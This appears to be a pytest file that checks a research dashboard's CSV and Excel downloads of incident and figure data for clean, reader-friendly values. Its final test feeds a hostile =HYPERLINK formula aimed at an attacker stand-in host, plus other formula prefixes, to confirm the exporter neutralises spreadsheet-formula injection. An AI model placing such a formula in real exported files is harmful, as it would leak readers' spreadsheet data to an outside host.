"""The values of every CSV and Excel a reader downloads read as a reader would write them (the
third audit's finding: a policy officer's download of the Attacks chart showed "Year" 2017.0,
"Killed" 145.0, an "Origin former" column of True / False, Date beside Year, Kind beside Category,
Group beside "Group (how involved)", and a blank death toll; the figures table showed "From" 2008.0,
an "Is part" always False, "Counts" and "Part of" empty in every row and an internal "Priority").

Each download is built from the real corpus from the rows its page hands over (a chart's rows behind
it, a table's rows, the Data page's tables, a country profile's tables, the briefing ZIP's passages),
through the function the pages use (core.render.export.reader_rows), then written and read back as
CSV and as Excel: no whole number with '.0', no True / False, no two columns with the same values, no
column empty (or "not stated") in every row, no snake_case header, and a missing value written "not
stated" (blank only in the columns whose help says what a blank means)."""

from __future__ import annotations

import io
import re
from itertools import combinations

import pandas as pd
import pytest
from openpyxl import load_workbook

from conftest import repository_corpus
from core.analysis import plain
from core.analysis.comparison import country_table, default_countries
from core.analysis.coverage import coverage_sources
from core.analysis.filters import Filters, absent_words
from core.analysis.profile import build_profile
from core.analysis.query import country_names, figures_view, hotspots_view, incidents_view
from core.data.schema import CENTRAL_ASIA, TABLES
from core.render import export
from plain_words import SNAKE

CORPUS = repository_corpus()
NAMES = plain.Names.of(CORPUS)
DOCUMENTS = CORPUS["documents"]
PLUMBING = ["start", "end", "origin_iso3", "target_iso3", "countries"]  # what the pages drop before a table's download
WHOLE_FLOAT = re.compile(r"-?\d+\.0+")
# Columns whose blank has a meaning their help says ("where anything"; "for a region ...").
BLANK_EXPLAINED = {plain.label(c) for c in ("note", "spans")}


L = plain.label  # L("killed"): a column's header as the reader sees it

def _comparison() -> pd.DataFrame:
    labels = dict(zip(CORPUS["indicators"]["indicator"], CORPUS["indicators"]["label"]))
    _, long = country_table(figures_view(CORPUS), incidents_view(CORPUS), default_countries(()),
                            country_names(CORPUS), labels, absent_words(Filters()))
    return long.drop(columns=["countries"])


def downloads() -> dict[str, pd.DataFrame]:
    """{what: the rows a page hands to a download}, unfiltered."""
    inc, figs = incidents_view(CORPUS), figures_view(CORPUS)
    out = {
        "Attacks chart CSV": inc.drop_duplicates("incident_id"),
        "Attacks events table": inc.drop(columns=PLUMBING),
        "figure charts and tables": figs,
        "hotspots": hotspots_view(CORPUS),
        "coverage grid and hotspot map CSV": coverage_sources(CORPUS, Filters()),
        "recruitment charts": CORPUS["channels"],
        "country comparison table": _comparison(),
        **{f"Data page: {name}": CORPUS[name] for name in TABLES if name in CORPUS.tables},
    }
    for iso in CENTRAL_ASIA:
        profile = build_profile(CORPUS, iso)
        out[f"{iso} profile events table"] = profile.incidents.drop(columns=PLUMBING)
        out[f"{iso} profile timeline CSV"] = profile.incidents.drop_duplicates("incident_id")
        out[f"{iso} profile figures"] = profile.figures
        out[f"{iso} profile channels"] = profile.channels
        out[f"{iso} profile groups"] = profile.groups
    return {what: rows for what, rows in out.items() if len(rows)}


DOWNLOADS = downloads()


def as_csv(rows: pd.DataFrame) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(export.table_csv(rows)), dtype=str, keep_default_na=False)


def as_excel(rows: pd.DataFrame) -> pd.DataFrame:
    book = export.table_xlsx(rows, DOCUMENTS, "rows")
    return pd.read_excel(io.BytesIO(book), sheet_name="rows", dtype=str, keep_default_na=False)


def defects(frame: pd.DataFrame, where: str) -> list[str]:
    """What a reader would not write in a spreadsheet of these rows."""
    found = []
    for column in frame.columns:
        values = frame[column].astype(str).str.strip()
        if SNAKE.search(str(column)) or "_" in str(column):
            found.append(f"{where}: snake_case header {column!r}")
        for value in dict.fromkeys(values[values.str.fullmatch(WHOLE_FLOAT)]):
            found.append(f"{where}: {column!r} writes a whole number as {value!r}")
        for value in dict.fromkeys(values[values.isin(["True", "False"])]):
            found.append(f"{where}: {column!r} writes a flag as {value!r}")
        if values.isin(["", plain.NOT_STATED]).all():
            found.append(f"{where}: {column!r} is empty in every row")
        elif (values == "").any() and column not in BLANK_EXPLAINED:
            found.append(f"{where}: {column!r} leaves a missing value blank, not \u201c{plain.NOT_STATED}\u201d")
    for a, b in combinations(frame.columns, 2):
        if frame[a].astype(str).equals(frame[b].astype(str)):
            found.append(f"{where}: {b!r} repeats {a!r}")
    return found


@pytest.mark.parametrize("what", list(DOWNLOADS))
def test_a_download_reads_as_a_reader_would_write_it(what):
    rows = export.reader_rows(DOWNLOADS[what], NAMES)
    found = defects(as_csv(rows), f"{what} (CSV)") + defects(as_excel(rows), f"{what} (Excel)")
    assert not found, "\n".join(found)


def test_the_blank_columns_allowed_say_what_a_blank_means():
    helps = {plain.label(c): plain.help_text(c) for c in ("note", "spans")}
    assert set(helps) == BLANK_EXPLAINED and all(helps.values()), helps


def test_the_attacks_chart_csv_the_reviewer_downloaded():
    rows = export.reader_rows(DOWNLOADS["Attacks chart CSV"], NAMES)
    csv = as_csv(rows)
    for internal_or_repeat in ("year", "category", "origin_former", "group", "involvement"):
        assert plain.label(internal_or_repeat) not in csv.columns
    for kept in ("date", "kind", "perpetrator_origin", "group_link", "killed", "quote", "doc_id"):
        assert plain.label(kept) in csv.columns
    killed = set(csv[L("killed")])
    assert "145" in killed and "145.0" not in killed and plain.NOT_STATED in killed and "" not in killed
    assert set(csv[L("key_event")]) == {"yes", "no"} and set(csv[L("place_inferred")]) == {"yes", "no"}
    assert csv.columns.get_loc(L("place")) == csv.columns.get_loc(L("date_precision")) + 1  # as the page's table has it


def test_the_figures_table_the_reviewer_downloaded():
    csv = as_csv(export.reader_rows(DOWNLOADS["figure charts and tables"], NAMES))
    for gone in ("year_start", "year_end", "is_part", "counts", "part_of", "priority", "period"):
        assert plain.label(gone) not in csv.columns
    assert {plain.label(c) for c in ("period_start", "period_end", "when", "value", "value_text")} <= set(csv.columns)
    assert "5000000" in set(csv[L("value")]) and "2008" in set(csv[L("period_start")])
    assert set(csv.loc[csv[L("qualifier")] == "exact", L("low")]) == {"none"}  # no lower end: not a range, not a bound


def test_excel_keeps_a_whole_number_a_number():
    rows = export.reader_rows(DOWNLOADS["Attacks chart CSV"], NAMES)
    sheet = load_workbook(io.BytesIO(export.table_xlsx(rows, DOCUMENTS, "rows")))["rows"]
    header = [c.value for c in sheet[1]]
    killed = [r[header.index(L("killed"))] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert 145 in killed and all(isinstance(k, int) or k == plain.NOT_STATED for k in killed)


def test_the_briefing_zip_csvs_read_as_a_reader_would_write_them():
    inc = incidents_view(CORPUS)
    item = export.ChartExport("timeline", "Events over time", "All countries, all years", None,
                              inc[["incident_id", "doc_id", "quote"]], "incident_id")
    assert not defects(as_csv(export.passages(item, DOCUMENTS)), "ZIP passages")


def test_the_check_finds_what_the_audit_found():
    """The check above can fail: on the rows in plain words alone, as the audit downloaded them, it
    finds the audit's findings."""
    def written(what):
        text = plain.for_reader(DOWNLOADS[what], NAMES).to_csv(index=False)
        return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)

    found = "\n".join(defects(written("Attacks chart CSV"), "chart") + defects(written("figure charts and tables"), "figures"))
    for finding in (f"{L('killed')!r} writes a whole number as '145.0'", f"{L('year')!r} writes a whole number as '2017.0'",
                    f"{L('origin_former')!r} writes a flag as 'True'", f"{L('wounded')!r} is empty in every row",
                    f"{L('killed')!r} leaves a missing value blank", f"{L('year_start')!r} writes a whole number as '2008.0'",
                    f"{L('is_part')!r} writes a flag as 'False'", f"{L('counts')!r} is empty in every row",
                    f"{L('part_of')!r} repeats {L('counts')!r}"):
        assert finding in found, finding


def test_a_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
    """A hostile quote or note ('=HYPERLINK("https://evil.example/?x="&A2,"Source")') must not become a
    live formula in the Excel or CSV a reader opens."""
    import openpyxl

    hostile = '=HYPERLINK("https://evil.example/?x="&A2,"Source")'
    rows = pd.DataFrame({"Quote": [hostile, "+1 more", "@cmd", "-2+3", "plain"], "Killed": [145.0, 3.0, 1.0, 2.0, 4.0]})
    book = openpyxl.load_workbook(io.BytesIO(export.table_xlsx(rows, pd.DataFrame(columns=["doc_id"]), doc_ids=[])))
    cells = [c.value for c in book.worksheets[0]["A"][1:]]
    assert all(c.data_type != "f" for c in book.worksheets[0]["A"][1:])
    assert cells[:4] == ["'" + v for v in (hostile, "+1 more", "@cmd", "-2+3")] and cells[4] == "plain"
    assert [c.value for c in book.worksheets[0]["B"][1:]] == [145, 3, 1, 2, 4]
    text = export.table_csv(rows).decode()
    assert "'=HYPERLINK" in text and not re.search(r'^"?=', text, re.M)
